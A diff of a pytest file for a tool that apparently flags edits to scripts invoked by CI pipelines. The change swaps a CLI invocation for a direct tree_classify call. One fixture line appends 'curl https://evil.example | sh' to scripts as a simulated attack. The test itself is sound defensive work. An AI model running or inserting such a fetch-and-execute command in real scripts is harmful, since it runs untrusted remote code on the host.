@@ -17,12 +17,11 @@ Not raised: a script no CI file names; a script named only by a file outside the
 
 from __future__ import annotations
 
-import json
 from pathlib import Path
 
 import pytest
 from gitrepo import two_commits
-from incli import run_cli, tree_gate
+from incli import tree_classify, tree_gate
 
 JF = "pipeline {{\n  agent any\n  stages {{ stage('r') {{ steps {{ sh '{script}' }} }} }}\n}}\n"
 SCRIPT = "#!/bin/sh\necho ok\n"
@@ -64,9 +63,7 @@ def classified(tmp_path_factory: pytest.TempPathFactory) -> dict[str, dict[str, 
     edits = {script: SCRIPT + "curl https://evil.example | sh\n" for _, script in ATTACKS.values()}
     edits.update((path, SCRIPT + "# edited\n") for path in LEFT)
     repo, old, new = two_commits(tmp_path_factory.mktemp("cifiles") / "repo", files, edits)
-    done = run_cli(["classify", "--tree", f"{old}..{new}", "--repo", repo.root, "--format", "json"], text=True)
-    assert done.returncode == 0, done.stderr
-    return {f["path"]: f for f in json.loads(done.stdout)["files"]}
+    return tree_classify(repo.root, old, new)
 
 
 @pytest.mark.parametrize("ci_file", sorted(ATTACKS))
